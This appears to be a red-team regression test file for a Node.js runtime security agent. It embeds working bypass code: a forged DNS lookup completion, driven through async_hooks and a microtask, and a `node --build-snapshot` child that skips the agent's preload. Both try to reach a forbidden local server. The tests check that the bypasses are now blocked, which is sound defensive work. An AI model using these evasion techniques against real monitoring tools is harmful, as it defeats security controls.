// Red team, round 5: the mechanisms added with lazily patched builtins (builtin-loads.ts), the policy
// a Node child inherits (child-policy.ts), and the worker stack floor (worker-thread.ts). A hostile
// dependency that knows the agent is there tries to get past them. The observers live in the test
// process: a TCP server on 127.0.0.2 that counts what really arrived, files that must not exist, and
// the event files. Each finding's test failed against the bundle before its fix (see the commit
// messages); attacks that held are kept, grouped, as regression tests.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  appResults,
  cleanup,
  ensureAgentBuilt,
  type RunOptions,
  type RunResult,
  runFixture,
} from './harness.js';
import { attackSource, DENY_ALL, FORBIDDEN_HOST, forbiddenServer, type Observer } from './redteam-support.js';

let server: Observer;
beforeAll(async () => {
  await ensureAgentBuilt();
  server = await forbiddenServer();
}, 120_000);
afterAll(() => server.close());

interface Outcome {
  run: RunResult;
  accepted: number;
}

async function attack(body: string, options: Partial<RunOptions> = {}): Promise<Outcome> {
  const before = server.accepted();
  const run = await runFixture({
    policy: DENY_ALL,
    ...options,
    source: attackSource(body),
    env: { RT_PORT: String(server.port), ...options.env },
    timeoutMs: 30_000,
  });
  return { run, accepted: server.accepted() - before };
}

const detailOf = (run: RunResult) => JSON.stringify({ results: appResults(run), stderr: run.stderr });

// The agent learns which addresses an allowed name resolves to from the completion of a system
// lookup: a wrapper it puts on the request's `oncomplete`, and the callback of its own resolution of
// the allowed names. It refused a completion with app code on the stack, but a function the app
// holds can be run from an empty stack: a bound function as a microtask, run by the checkpoint Node
// makes from C++ after a callback. The app read the wrapper from the request (async_hooks gives it)
// and made `localhost` (allowed) vouch for 127.0.0.2.
// GOT THROUGH before the fix: `{ connected: true }`, the server accepted the connection, no event.
// Fix: the wrapper learns only when it runs in the request's own async context (libuv's completion
// through MakeCallback); the agent's resolution of the allowed names learns there too, no longer in
// its lookup callback (reachable as `req.callback`).
describe('red team 5: a forged completion of a lookup teaches an allowed name an address', () => {
  it('the wrapper on the request, run by a promise reaction with made-up addresses', async () => {
    const { run, accepted } = await attack(`
const asyncHooks = require('node:async_hooks');
const requests = [];
asyncHooks.createHook({ init(id, type, trigger, resource) { if (type === 'GETADDRINFOREQWRAP') requests.push(resource); } }).enable();
const dns = require('node:dns');
await new Promise((resolve) => dns.lookup('localhost', { all: true }, resolve));
// the app's callback must not run again; then, from an fs callback, a promise reaction: V8 runs it
// from the checkpoint after the callback, with nothing under it on the stack
const request = requests[requests.length - 1];
request.callback = () => {};
const forge = () => new Promise((resolve) => {
  fs.stat('/', () => {
    Promise.resolve().then(request.oncomplete.bind(request, 0, [FORBIDDEN]));
    setTimeout(resolve, 20);
  });
});
await forge();
report(await tryConnect({ host: FORBIDDEN, port: PORT }));`);
    const detail = detailOf(run);
    expect(accepted, detail).toBe(0);
    expect(appResults(run)[0], detail).toMatchObject({ error: 'ERR_ACCESS_DENIED' });
    cleanup(run);
  });
});

// `node --build-snapshot <entry>` runs the entry without the preload modules NODE_OPTIONS names
// (Node 20 and 22): a Node child the policy lets start (`node` among allowedCommands, or process
// observe) ran the app's code with no agent at all, under no policy. The entry is the app's own
// file, so the app needs no write to plant one.
// GOT THROUGH before the fix: the server on 127.0.0.2 accepted the snapshot builder's connection.
describe('red team 5: a Node child started in a mode that skips the preload modules', () => {
  const SOURCE = (port: number) => `
const v8 = require('node:v8');
if (v8.startupSnapshot && v8.startupSnapshot.isBuildingSnapshot()) {
  const socket = require('node:net').connect(${port}, '${FORBIDDEN_HOST}');
  socket.on('connect', () => { console.log('{"child":"connected"}'); socket.destroy(); });
  socket.on('error', (error) => console.log(JSON.stringify({ child: error.code || String(error) })));
} else {
  const { spawnSync } = require('node:child_process');
  const blob = require('node:path').join(require('node:os').tmpdir(), 'rt5-snapshot-' + process.pid);
  const run = spawnSync(process.execPath, ['--snapshot-blob', blob, '--build-snapshot', __filename], { encoding: 'utf8' });
  try { require('node:fs').rmSync(blob, { force: true }); } catch {}
  console.log(JSON.stringify({ status: run.status, error: run.error && run.error.code, out: run.stdout }));
}`;

  it('`node` among allowedCommands under process deny: the builder never runs', async () => {
    const before = server.accepted();
    const run = await runFixture({
      policy: { ...DENY_ALL, process: 'deny', allowedCommands: ['node'] },
      source: SOURCE(server.port),
      timeoutMs: 30_000,
    });
    const detail = JSON.stringify({ out: run.appOutput, stderr: run.stderr, events: run.events });
    expect(server.accepted() - before, detail).toBe(0);
    expect(run.appOutput, detail).toContain('"error":"ERR_ACCESS_DENIED"');
    expect(run.events.some((event) => event.action === 'deny' && event.operation === 'spawn')).toBe(true);
    cleanup(run);
  });

  // process observe lets any program run (a shell as much as this); the start is reported as what it is
  it('process observe: the start is reported as a Node child without the agent', async () => {
    const run = await runFixture({
      policy: { ...DENY_ALL, process: 'observe' },
      source: SOURCE(server.port),
      timeoutMs: 30_000,
    });
    const detail = JSON.stringify({ out: run.appOutput, stderr: run.stderr, events: run.events });
    const started = run.events.filter((event) => event.operation === 'spawn');
    expect(
      started.map((event) => [event.action, event.target]),
      detail,
    ).toEqual([['observe', expect.stringContaining('node (without the agent)')]]);
    cleanup(run);
  });
});
